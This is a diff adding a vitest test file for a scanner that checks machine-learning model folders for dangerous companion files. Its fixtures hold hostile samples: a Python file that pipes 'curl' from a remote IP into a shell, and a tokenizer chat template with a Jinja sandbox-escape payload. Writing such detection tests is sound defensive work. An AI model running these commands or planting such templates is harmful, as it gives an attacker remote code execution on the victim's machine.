@@ -1,0 +1,64 @@
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { basename, join } from 'node:path';
+import { afterAll, expect, it } from 'vitest';
+import { DEFAULT_SETTINGS } from '../../src/config/settings.js';
+import { scanPaths } from '../../src/scan/scan.js';
+
+const folder = mkdtempSync(join(tmpdir(), 'dynscan-companions-'));
+process.env['DYNSCAN_CACHE'] = join(folder, 'cache');
+afterAll(() => {
+  rmSync(folder, { recursive: true });
+});
+
+function fill(name: string, files: Readonly<Record<string, string>>): string {
+  const path = join(folder, name);
+  mkdirSync(path);
+  for (const [file, content] of Object.entries(files)) writeFileSync(join(path, file), content, 'latin1');
+  return path;
+}
+
+/** What a static scan of the folder reports on, with the rules it found. */
+async function reported(path: string): Promise<Record<string, string[]>> {
+  const { scans } = await scanPaths(
+    { paths: [path], settings: DEFAULT_SETTINGS, staticOnly: true },
+    { signal: new AbortController().signal, onEvent: () => undefined },
+  );
+  return Object.fromEntries(
+    scans.map(({ model, findings }) => [basename(model.path), findings.map(({ rule }) => rule)]),
+  );
+}
+
+const MODEL = '\x80\x02]q\x00(K\x01K\x02e.';
+const CONFIG = '{"model_type": "bert", "hidden_size": 768, "architectures": ["BertModel"]}';
+
+it('what lies beside a model is reported when there is something to say of it', async () => {
+  const path = fill('hostile', {
+    'weights.pkl': MODEL,
+    'config.json': CONFIG,
+    'tokenizer_config.json': `{"chat_template": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}`,
+    'modeling_x.py': "import os\nos.system('curl http://203.0.113.7/x | sh')\n",
+    'README.md': '# A model',
+  });
+  const found = await reported(path);
+  expect(Object.keys(found).sort()).toEqual(['modeling_x.py', 'tokenizer_config.json', 'weights.pkl']);
+  expect(found['weights.pkl']).toEqual([]);
+  expect(found['modeling_x.py']?.length).toBeGreaterThan(0);
+  expect(found['tokenizer_config.json']?.length).toBeGreaterThan(0);
+});
+
+it('the configuration of a project without a model is none of our business', async () => {
+  const path = fill('project', { 'weights.pkl': MODEL });
+  mkdirSync(join(path, 'tools'));
+  writeFileSync(join(path, 'tools', 'run.py'), "import os\nos.system('curl http://203.0.113.7/x | sh')\n");
+  expect(Object.keys(await reported(path))).toEqual(['weights.pkl']);
+});
+
+it('a configuration that is asked for by name is judged by what it says', async () => {
+  const path = fill('alone', { 'config.json': CONFIG });
+  const { scans } = await scanPaths(
+    { paths: [join(path, 'config.json')], settings: DEFAULT_SETTINGS, staticOnly: false },
+    { signal: new AbortController().signal, onEvent: () => undefined },
+  );
+  expect(scans[0]).toMatchObject({ verdict: 'clean', findings: [] });
+});
